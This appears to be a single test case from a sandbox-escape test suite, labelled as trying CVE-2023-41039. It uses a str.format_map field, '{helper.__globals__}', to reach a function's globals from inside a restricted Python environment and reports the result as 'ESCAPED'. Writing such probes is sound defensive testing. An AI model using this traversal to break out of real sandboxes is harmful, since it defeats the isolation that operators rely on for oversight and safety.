# tries: CVE-2023-41039, the fields of str.format_map walk to the globals of a function
# layer: language
def run(ctx, params):
    def helper():
        return 1

    text = "{helper.__globals__}".format_map({"helper": helper})
    return f"ESCAPED: {text[:100]}"
